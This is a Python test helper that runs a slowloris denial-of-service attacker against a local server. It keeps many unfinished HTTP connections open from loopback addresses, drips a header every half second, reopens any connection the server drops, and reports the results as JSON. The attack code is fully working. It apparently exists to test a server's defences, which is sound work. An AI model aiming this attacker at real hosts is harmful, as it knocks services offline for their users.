"""A slowloris attacker, run as its own process by test_slow_clients.py (so that its work does
not share the server's event loop): ``python slow_clients.py HOST PORT SLOTS SOURCES``.

Keeps SLOTS slow connections spread over SOURCES loopback source addresses (127.0.0.10, .11,
...): each sends a request line and then one header line every half second, never finishing;
a connection the server closes is opened again shortly after. On a line ``stop`` on stdin the
slots stop opening new connections but keep dripping on those still open, so the attack ends
only when the server has closed every one of them. Then it prints one JSON line: connections
opened, closed by the server, refused at connect, and the longest time the server held one.
Nothing here is timed by a window: the attacker goes on for as long as the test needs it.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time

DRIP_S = 0.5
# A pause before opening again, so that the slots the server turns away retry at a bounded rate.
REOPEN_AFTER_S = 0.25


async def slow_clients(host: str, port: int, source: str, stopping: asyncio.Event, stats: dict[str, float]) -> None:
    """One attacker's slot: a slow connection, opened again a while after the server closes it."""
    while not stopping.is_set():
        await slow_client(host, port, source, stats)
        await asyncio.sleep(REOPEN_AFTER_S)


async def slow_client(host: str, port: int, source: str, stats: dict[str, float]) -> None:
    try:
        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
    except OSError:
        stats["refused"] += 1
        return
    opened = time.monotonic()
    stats["opened"] += 1
    try:
        writer.write(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        while True:  # until the server closes it: the attacker never gives up first
            await writer.drain()
            try:
                data = await asyncio.wait_for(reader.read(1024), DRIP_S)
            except TimeoutError:
                writer.write(b"X-Slow: yes\r\n")
                continue
            if not data:
                break
    except OSError:
        pass
    finally:
        writer.close()
    stats["closed_by_server"] += 1
    stats["longest_held_s"] = max(stats["longest_held_s"], time.monotonic() - opened)


async def stop_on_request(stopping: asyncio.Event) -> None:
    loop = asyncio.get_running_loop()
    while True:
        line = await loop.run_in_executor(None, sys.stdin.readline)
        if not line or line.strip() == "stop":
            stopping.set()
            return


async def main(host: str, port: int, slots: int, sources: int) -> None:
    stats = {"opened": 0.0, "refused": 0.0, "closed_by_server": 0.0, "longest_held_s": 0.0}
    stopping = asyncio.Event()
    listener = asyncio.create_task(stop_on_request(stopping))
    await asyncio.gather(*(slow_clients(host, port, f"127.0.0.{10 + i % sources}", stopping, stats)
                           for i in range(slots)))
    await listener
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])))
